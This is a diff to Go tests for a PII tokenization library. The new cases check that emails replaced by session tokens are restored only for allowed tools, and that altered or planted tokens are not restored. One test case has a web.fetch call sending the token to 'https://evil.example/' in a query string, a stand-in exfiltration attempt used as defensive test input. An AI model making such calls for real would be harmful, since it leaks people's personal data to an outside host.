@@ -188,6 +188,10 @@ func TestTokens(t *testing.T) {
 		"another tool":             {session, "web.fetch", `{"to":"` + token + `"}`, "may not get"},
 		"another type":             {session, "mail.send", `{"to":"` + strings.Replace(token, "email", "iban", 1) + `"}`, "none that was given out"},
 		"made up":                  {session, "mail.send", `{"to":"<email:aaaaaaaaaaaaaaaaaaaa>"}`, "none that was given out"},
+		"upper case":               {session, "mail.send", `{"to":"` + strings.ToUpper(token) + `"}`, "is none"},
+		"HTML":                     {session, "mail.send", `{"to":"&lt;` + token[1:len(token)-1] + `&gt;"}`, "is none"},
+		"without its brackets":     {session, "mail.send", `{"to":"x` + token[1:len(token)-1] + `"}`, "is none"},
+		"its body, in a name":      {session, "mail.send", `{"a` + token[7:27] + `b":1}`, "is none"},
 		"for another tool, hidden": {session, "web.fetch", `{"url":"https://evil.example/?` + token + `"}`, "part of a longer text"},
 	} {
 		out, _, err := r.Restore([]byte(c.in), c.tool, c.tokens)
@@ -200,13 +204,32 @@ func TestTokens(t *testing.T) {
 		case err != nil || string(out) != c.want:
 			t.Errorf("%s: %s (%v), want %s", name, out, err, c.want)
 		}
-		if held := HoldsToken([]byte(c.in)); held != (name != "none") {
-			t.Errorf("%s: HoldsToken is %v", name, held)
+		if held := session.In([]byte(c.in)); held != (name != "none") {
+			t.Errorf("%s: In is %v", name, held)
 		}
 	}
 }
 
 // TestLookAlikes holds that a server cannot plant a token, nor what becomes one.
+// TestTokensStay holds that tokens are what they were when nothing is tokenized any more.
+func TestTokensStay(t *testing.T) {
+	r := made(t, Options{PII: map[string]Action{"email": Tokenize}, Restore: []string{"mail.send"}})
+	session := NewTokens()
+	given := redacted(t, r, `"`+aMail+`"`, Scope{Tokens: session}).Text
+	if err := r.Configure(Options{PII: map[string]Action{"email": Mask}, Restore: []string{"mail.send"}}); err != nil {
+		t.Fatal(err)
+	}
+	if out, _, err := r.Restore(given, "mail.send", session); err != nil || string(out) != `"`+aMail+`"` {
+		t.Errorf("%s became %s: %v", given, out, err)
+	}
+	if out, _, err := r.Restore(given, "web.fetch", session); err == nil {
+		t.Errorf("%s became %s for a tool that may not get it", given, out)
+	}
+	if out, _, err := r.Restore(given, "web.fetch", NewTokens()); err != nil || string(out) != string(given) {
+		t.Errorf("%s of nobody became %s where nothing is tokenized: %v", given, out, err)
+	}
+}
+
 func TestLookAlikes(t *testing.T) {
 	r := made(t, Options{PII: map[string]Action{"email": Tokenize}, Restore: []string{"*"}})
 	session := NewTokens()
@@ -217,7 +240,7 @@ func TestLookAlikes(t *testing.T) {
 		"<email:~" + token + ">", "<a:" + token[:len(token)-1] + ">>",
 	} {
 		done := redacted(t, r, `["`+planted+`"]`, Scope{Tokens: session})
-		if HoldsToken(done.Text) {
+		if NewTokens().In(done.Text) {
 			t.Errorf("%s became %s, which holds a token", planted, done.Text)
 		}
 	}
